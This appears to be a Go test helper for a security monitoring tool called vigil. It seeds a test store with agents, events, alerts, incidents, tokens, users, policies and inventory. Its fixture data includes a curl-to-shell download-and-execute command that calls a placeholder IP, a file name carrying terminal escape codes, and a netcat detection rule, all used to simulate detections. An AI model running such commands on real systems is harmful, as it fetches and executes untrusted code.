package cli

import (
	"context"
	"encoding/json"
	"errors"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/apiclient/apiclienttest"
	"github.com/vigilsec/vigil/internal/center/api/apitest"
	"github.com/vigilsec/vigil/internal/center/incident"
	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/store"
)

func ev(id string, at time.Duration, agent, host, category, action string, fields map[string]any) event.Event {
	e := event.New(id, now.Add(at), category, action)
	e.Set(event.FieldAgentID, agent)
	if host != "" {
		e.Set(event.FieldHostName, host)
	}
	for k, v := range fields {
		e.Set(k, v)
	}
	return e
}

// seed fills the store with a small fleet through the store's interfaces,
// as the center's services would have: agents with their status history,
// events, alerts, join tokens, API tokens and a session, users, agent
// policies and audit entries, all at fixed times before now.
func seed(t *testing.T, st store.Store) {
	t.Helper()
	ctx := context.Background()
	must := func(what string, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("seed %s: %v", what, err)
		}
	}
	seedAgents(ctx, st, must)

	e1 := ev("e1", -90*time.Second, "7f3c9a", "web-1", "process", "start", map[string]any{
		"process.executable": "/usr/bin/curl", "process.command_line": "curl -s http://203.0.113.9/x.sh", "user.name": "www-data",
		"process.entity_id": "7f3c9a-4242-1", "process.pid": 4242})
	_, err := st.Events().Insert(ctx, []event.Event{
		e1,
		ev("e2", -60*time.Second, "b81d02", "", "network", "connection_attempted", map[string]any{
			"source.ip": "10.0.0.7", "destination.ip": "10.0.0.9", "destination.port": 3000}),
		ev("e3", -30*time.Second, "7f3c9a", "web-1", "file", "creation", map[string]any{
			"file.path": "/tmp/\x1b[31mevil\x1b[0m"}),
	})
	must("events", err)
	seedInventory(ctx, st, must)

	_, _, err = st.Alerts().Raise(ctx, store.Alert{
		ID: "al-1", AgentID: "b81d02", Hostname: "db-1", RuleID: "vigil.agent.lost", Title: "Agent lost without goodbye",
		Severity: store.SeverityMedium, Techniques: []string{"T1562.001"}, DedupKey: "vigil.agent.lost/b81d02",
		CreatedAt: now.Add(-3 * time.Hour),
	})
	must("alert al-1", err)
	_, _, err = st.Alerts().Raise(ctx, store.Alert{
		ID: "al-2", AgentID: "7f3c9a", Hostname: "web-1", RuleID: "sigma.curl_pipe_sh", Title: "Download piped to a shell",
		Description: "A web process fetched a script and ran it.", Severity: store.SeverityHigh,
		Techniques: []string{"T1105", "T1059.004"}, Count: 3, CreatedAt: now.Add(-20 * time.Minute),
		LastSeen: now.Add(-90 * time.Second), EventIDs: []string{"e1"},
		Evidence: map[string]any{"process.command_line": "curl -s http://203.0.113.9/x.sh | sh"},
	})
	must("alert al-2", err)
	_, err = st.Alerts().SetState(ctx, "al-2", store.AlertAcknowledged,
		store.AlertComment{At: now.Add(-5 * time.Minute), Author: "alice", Text: "on it"})
	must("alert al-2 state", err)
	seedDetection(ctx, st, e1, must)

	must("join token jt-prod", st.JoinTokens().Create(ctx, store.JoinToken{ID: "jt-prod", Description: "prod web",
		Labels: map[string]string{"env": "prod"}, CreatedAt: now.Add(-2 * time.Hour), CreatedBy: "alice",
		ExpiresAt: now.Add(22 * time.Hour), UsageLimit: 50, Uses: 2, SecretHash: []byte("not a real secret hash")}))
	must("join token jt-old", st.JoinTokens().Create(ctx, store.JoinToken{ID: "jt-old", CreatedAt: now.Add(-72 * time.Hour),
		CreatedBy: "token:admin", ExpiresAt: now.Add(-48 * time.Hour), Uses: 7, SecretHash: []byte("not a real secret hash")}))

	must("user alice", st.Users().Create(ctx, store.User{ID: "u-alice", Name: "alice", Role: store.RoleAdmin,
		PasswordHash: apiclienttest.PasswordHash("alice's long password"),
		CreatedAt:    now.AddDate(0, 0, -90), UpdatedAt: now.AddDate(0, 0, -90)}))
	must("user bob", st.Users().Create(ctx, store.User{ID: "u-bob", Name: "bob", Role: store.RoleViewer, Disabled: true,
		PasswordHash: apiclienttest.PasswordHash("bob's long password"),
		CreatedAt:    now.AddDate(0, 0, -10), UpdatedAt: now.Add(-24 * time.Hour)}))
	must("API token at-ci", st.APITokens().Create(ctx, store.APIToken{ID: "at-ci", Name: "ci", Kind: "api",
		Role: store.RoleAnalyst, Hash: []byte("hash of at-ci"), CreatedAt: now.Add(-48 * time.Hour), LastUsedAt: now.Add(-10 * time.Minute)}))
	must("session at-s1", st.APITokens().Create(ctx, store.APIToken{ID: "at-s1", Name: "alice", Kind: "session",
		UserID: "u-alice", Role: store.RoleAdmin, Hash: []byte("hash of at-s1"), CreatedAt: now.Add(-1 * time.Hour),
		ExpiresAt: now.Add(11 * time.Hour)}))

	// base is at its second revision.
	base := store.AgentPolicy{Name: "base", UpdatedAt: now.AddDate(0, 0, -6), UpdatedBy: "alice",
		Spec: json.RawMessage(`{"heartbeatIntervalSeconds":"60"}`)}
	_, err = st.AgentPolicies().Put(ctx, base)
	must("policy base", err)
	base.UpdatedAt = now.AddDate(0, 0, -5)
	base.Spec = json.RawMessage(`{"heartbeatIntervalSeconds":"30","collectors":{"host/facts":{"enabled":true,"intervalSeconds":"600"}}}`)
	_, err = st.AgentPolicies().Put(ctx, base)
	must("policy base", err)
	_, err = st.AgentPolicies().Put(ctx, store.AgentPolicy{Name: "prod", Selector: map[string]string{"env": "prod"}, Priority: 10,
		Spec:      json.RawMessage(`{"heartbeatIntervalSeconds":"5","spoolMaxMb":"512","budget":{"cpuPercent":5}}`),
		UpdatedAt: now.Add(-2 * time.Hour), UpdatedBy: "token:admin"})
	must("policy prod", err)

	for _, e := range []store.AuditEntry{
		{At: now.Add(-2 * time.Hour), Actor: "token:admin", Role: store.RoleAdmin, Action: "policy.put", Target: "prod", Result: "ok", SourceIP: "10.0.0.2"},
		{At: now.Add(-1 * time.Hour), Actor: "bob", Role: store.RoleViewer, Action: "agent.delete", Target: "b81d02", Result: "denied", SourceIP: "10.0.0.3"},
	} {
		_, err := st.Audit().Append(ctx, e)
		must("audit "+e.Action, err)
	}
}

// seedAgents stores three agents: web-1 online (after being lost for an
// hour yesterday) and connected by the harness, db-1 lost, oa-1 stopped.
func seedAgents(ctx context.Context, st store.Store, must func(string, error)) {
	must("agent 7f3c9a", st.Agents().Create(ctx, store.Agent{
		ID: "7f3c9a", Hostname: "web-1", Status: store.StatusOnline, StatusChangedAt: now.AddDate(0, 0, -30),
		LastSeen: now.Add(-4 * time.Second), EnrolledAt: now.AddDate(0, 0, -30),
		Labels: map[string]string{"env": "prod", "role": "web"}, OS: "linux", Platform: "debian", PlatformVersion: "12.9",
		Kernel: "6.1.0-31-amd64", Arch: "amd64", IPs: []string{"10.0.0.5", "fe80::1"}, AgentVersion: "v0.3.0",
		MachineID: "4f1c0e5d9a2b", JoinTokenID: "jt-prod", BootTime: now.AddDate(0, 0, -40),
		UserKey:   apiclienttest.UserKey("7f3c9a"),
		LastState: []byte(`{"plugins":{"host/facts":"ok","exec/proccon":"ok"},"spool_dropped_total":0}`),
	}))
	_, err := st.Agents().SetStatus(ctx, "7f3c9a", store.StatusLost, "connection closed", now.Add(-27*time.Hour))
	must("status of 7f3c9a", err)
	_, err = st.Agents().SetStatus(ctx, "7f3c9a", store.StatusOnline, "connected", now.Add(-26*time.Hour))
	must("status of 7f3c9a", err)
	must("agent b81d02", st.Agents().Create(ctx, store.Agent{
		ID: "b81d02", Hostname: "db-1", Status: store.StatusLost, StatusReason: "connection closed",
		StatusChangedAt: now.Add(-3 * time.Hour), LastSeen: now.Add(-3 * time.Hour), EnrolledAt: now.AddDate(0, 0, -30),
		Labels: map[string]string{"env": "prod", "role": "db"}, OS: "linux", IPs: []string{"10.0.0.7"},
		UserKey: apiclienttest.UserKey("b81d02"),
	}))
	must("agent c0ffee", st.Agents().Create(ctx, store.Agent{
		ID: "c0ffee", Hostname: "oa-1", Status: store.StatusStopped, StatusReason: "SIGTERM by pid 812 (systemctl stop vigil-agent)",
		StatusChangedAt: now.Add(-7*time.Hour - 22*time.Minute), LastSeen: now.Add(-7*time.Hour - 22*time.Minute),
		EnrolledAt: now.AddDate(0, 0, -60), Labels: map[string]string{"env": "test"}, OS: "linux", Platform: "ubuntu",
		PlatformVersion: "22.04", UserKey: apiclienttest.UserKey("c0ffee"),
	}))
}

// seedInventory gives web-1 and db-1 packages and ports, then changes
// web-1's: redis upgraded, a new port, a package removed.
func seedInventory(ctx context.Context, st store.Store, must func(string, error)) {
	type item struct{ kind, key, name, version, fields string }
	apply := func(agent, collector string, base string, items []item, removed []store.AssetRef, at time.Duration) string {
		c := store.InventoryChanges{AgentID: agent, Collector: collector, BaseDigest: base, At: now.Add(at), Last: true, Removed: removed}
		state := map[string][32]byte{}
		if base != event.InventoryDigest(nil) {
			_, prev, _, err := st.Inventory().State(ctx, agent, collector, store.Page{Limit: store.MaxLimit})
			must("state", err)
			for _, d := range prev {
				state[d.Kind+"\x00"+d.Key] = d.Hash
			}
		}
		for _, r := range removed {
			delete(state, r.Kind+"\x00"+r.Key)
		}
		for _, it := range items {
			var fields json.RawMessage
			if it.fields != "" {
				fields = json.RawMessage(it.fields)
			}
			h := event.AssetHash(it.kind, it.key, it.name, it.version, fields)
			c.Upserts = append(c.Upserts, store.AssetRecord{Kind: it.kind, Key: it.key, Name: it.name, Version: it.version, Fields: fields, Hash: h})
			state[it.kind+"\x00"+it.key] = h
		}
		c.Digest = event.InventoryDigest(state)
		res, err := st.Inventory().Apply(ctx, c)
		must("inventory "+agent+" "+collector, err)
		if res.Resync {
			must("inventory "+agent+" "+collector, errors.New("resync"))
		}
		return c.Digest
	}
	empty := event.InventoryDigest(nil)
	webPkgs := apply("7f3c9a", "os/packages", empty, []item{
		{"package", "openssl:amd64", "openssl", "3.0.15-1~deb12u1", `{"package":{"architecture":"amd64","type":"deb"}}`},
		{"package", "redis-server:amd64", "redis-server", "5:7.0.15-1~deb12u1", `{"package":{"architecture":"amd64","type":"deb"}}`},
		{"package", "telnet:amd64", "telnet", "0.17+2.4-2", `{"package":{"architecture":"amd64","type":"deb"}}`},
	}, nil, -2*time.Hour)
	webPorts := apply("7f3c9a", "net/listeners", empty, []item{
		{"port", "tcp/0.0.0.0:22", "22", "", `{"process":{"executable":"/usr/sbin/sshd"},"user":{"name":"root"}}`},
	}, nil, -2*time.Hour)
	apply("b81d02", "os/packages", empty, []item{
		{"package", "redis-server:amd64", "redis-server", "5:6.0.16-1+deb11u2", `{"package":{"architecture":"amd64","type":"deb"}}`},
	}, nil, -2*time.Hour)
	apply("7f3c9a", "os/packages", webPkgs, []item{
		{"package", "redis-server:amd64", "redis-server", "5:7.0.15-1~deb12u4", `{"package":{"architecture":"amd64","type":"deb"}}`},
	}, []store.AssetRef{{Kind: "package", Key: "telnet:amd64"}}, -10*time.Minute)
	apply("7f3c9a", "net/listeners", webPorts, []item{
		{"port", "tcp/0.0.0.0:3000", "3000", "", `{"process":{"executable":"/opt/tool/agentd"},"user":{"name":"www-data"}}`},
	}, nil, -5*time.Minute)
}

// seedDetection puts the alerts into incidents (al-2 investigated by
// alice), and adds exceptions, an imported rule file and a rule setting.
func seedDetection(ctx context.Context, st store.Store, e1 event.Event, must func(string, error)) {
	_, _, err := st.Incidents().Attach(ctx, store.Join{AlertID: "al-1", Title: "Agent lost without goodbye — db-1", At: now.Add(-3 * time.Hour)})
	must("incident of al-1", err)
	inc, _, err := st.Incidents().Attach(ctx, store.Join{AlertID: "al-2", Entities: incident.Entities("7f3c9a", e1),
		Title: "Download piped to a shell — web-1", At: now.Add(-20 * time.Minute)})
	must("incident of al-2", err)
	_, err = st.Incidents().SetState(ctx, inc.ID, store.IncidentInvestigating, "alice",
		store.IncidentComment{At: now.Add(-4 * time.Minute), Author: "alice", Text: "isolating web-1"})
	must("incident state", err)

	_, err = st.Exceptions().Create(ctx, store.Exception{ID: "ex-apt", RuleID: apitest.RuleCurlPipe,
		Match:  map[string][]string{"process.parent.executable": {"/usr/bin/apt*", "/usr/bin/dpkg"}},
		Reason: "package installs fetch and run scripts", Author: "alice",
		ExpiresAt: now.AddDate(0, 0, 7), CreatedAt: now.Add(-2 * time.Hour)})
	must("exception ex-apt", err)
	must("hits of ex-apt", st.Exceptions().AddHits(ctx, "ex-apt", 3, now.Add(-10*time.Minute)))
	_, err = st.Exceptions().Create(ctx, store.Exception{ID: "ex-lab", AgentID: "c0ffee", Match: map[string][]string{},
		Reason: "test host", Author: "token:admin", ExpiresAt: now.Add(-time.Hour), CreatedAt: now.AddDate(0, 0, -1)})
	must("exception ex-lab", err)

	_, err = st.Rules().PutFile(ctx, store.RuleFile{Name: "custom/proc_creation_nc.yml", Content: []byte(apitest.NetcatRule),
		Author: "alice", CreatedAt: now.Add(-26 * time.Hour), UpdatedAt: now.Add(-25 * time.Hour)})
	must("rule file", err)
	must("rule setting", st.Rules().PutSetting(ctx, store.RuleSetting{RuleID: apitest.RuleToolPort, Disabled: true,
		Author: "alice", UpdatedAt: now.Add(-time.Hour)}))
}
